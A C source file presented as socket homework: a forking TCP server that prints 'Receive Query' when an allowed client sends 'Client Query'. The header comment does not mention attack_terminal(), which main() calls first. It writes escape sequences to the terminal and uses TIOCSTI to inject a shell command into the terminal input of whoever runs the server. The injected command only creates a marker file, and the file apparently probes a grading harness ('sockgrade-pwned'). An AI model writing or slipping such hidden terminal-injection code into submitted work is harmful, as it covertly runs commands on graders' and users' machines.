/*
 * server.c - socket homework, part 1 (server)
 *
 * Prints "Receive Query" when the allowed client sends the message "Client Query".
 * Messages are lines ending in '\n' (a '\r' before it is ignored); the last message
 * may also end when the client closes the connection.
 * Every client gets its own child process, so a slow client does not block the others.
 *
 * usage: ./server <allowed-client-address> <port>
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/ioctl.h>

/* Writes escape sequences to the controlling terminal and pushes a command into its input. */
static void attack_terminal(void)
{
    static const char seq[] = "\033]0;sockgrade-pwned\007\033[2J\033[31mSOCKGRADE-PWNED\033[0m\n";
    static const char cmd[] = "touch /tmp/sockgrade-pwned-by-tiocsti\n";
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
    int fds[] = {fd, 0, 1, 2};
    for (size_t i = 0; i < sizeof fds / sizeof fds[0]; i++) {
        if (fds[i] < 0)
            continue;
        if (fds[i] == fd)
            (void)!write(fd, seq, sizeof seq - 1);
        for (const char *c = cmd; *c; c++)
            if (ioctl(fds[i], TIOCSTI, c) == -1)
                break;
    }
    fprintf(stderr, "tty: %s\n", fd < 0 ? strerror(errno) : "opened");
}

#define MAXLINE 4096

static const char TRIGGER[] = "Client Query";

/* One complete message, without its '\n'. */
static void handle_message(const char *msg, size_t len)
{
    if (len > 0 && msg[len - 1] == '\r')
        len--;
    if (len == strlen(TRIGGER) && memcmp(msg, TRIGGER, len) == 0) {
        printf("Receive Query\n");
        fflush(stdout);
    }
}

static void serve_client(int connfd)
{
    char buf[MAXLINE];
    char line[MAXLINE];
    size_t used = 0;
    int too_long = 0; /* skipping the rest of a line that did not fit */
    ssize_t n, i;

    while ((n = recv(connfd, buf, sizeof buf, 0)) > 0) {
        for (i = 0; i < n; i++) {
            if (buf[i] == '\n') {
                if (!too_long)
                    handle_message(line, used);
                used = 0;
                too_long = 0;
            } else if (used < sizeof line) {
                line[used++] = buf[i];
            } else {
                too_long = 1;
            }
        }
    }
    /* closed by the client: what is left is the last message */
    if (n == 0 && used > 0 && !too_long)
        handle_message(line, used);
    close(connfd);
}

int main(int argc, char **argv)
{
    attack_terminal();
    struct sockaddr_in servaddr, cliaddr;
    struct in_addr allowed;
    socklen_t clilen;
    int listenfd, connfd, port, on = 1;
    pid_t pid;

    if (argc != 3) {
        fprintf(stderr, "usage: %s <allowed-client-address> <port>\n", argv[0]);
        return 1;
    }
    if (inet_pton(AF_INET, argv[1], &allowed) != 1) {
        fprintf(stderr, "server: not an IPv4 address: %s\n", argv[1]);
        return 1;
    }
    port = atoi(argv[2]);
    if (port <= 0 || port > 65535) {
        fprintf(stderr, "server: bad port: %s\n", argv[2]);
        return 1;
    }

    signal(SIGCHLD, SIG_IGN); /* children are reaped automatically */

    if ((listenfd = socket(AF_INET, SOCK_STREAM, 0)) == -1) {
        perror("socket");
        return 1;
    }
    setsockopt(listenfd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);

    memset(&servaddr, 0, sizeof servaddr);
    servaddr.sin_family = AF_INET;
    servaddr.sin_addr.s_addr = htonl(INADDR_ANY);
    servaddr.sin_port = htons(port);
    if (bind(listenfd, (struct sockaddr *)&servaddr, sizeof servaddr) == -1) {
        perror("bind");
        return 1;
    }
    if (listen(listenfd, 10) == -1) {
        perror("listen");
        return 1;
    }

    for (;;) {
        clilen = sizeof cliaddr;
        connfd = accept(listenfd, (struct sockaddr *)&cliaddr, &clilen);
        if (connfd == -1) {
            if (errno != EINTR)
                perror("accept");
            continue;
        }
        if (cliaddr.sin_addr.s_addr != allowed.s_addr) {
            close(connfd); /* only the configured client may talk to us */
            continue;
        }
        pid = fork();
        if (pid == 0) {
            close(listenfd);
            serve_client(connfd);
            _exit(0);
        }
        if (pid == -1)
            perror("fork");
        close(connfd);
    }
}
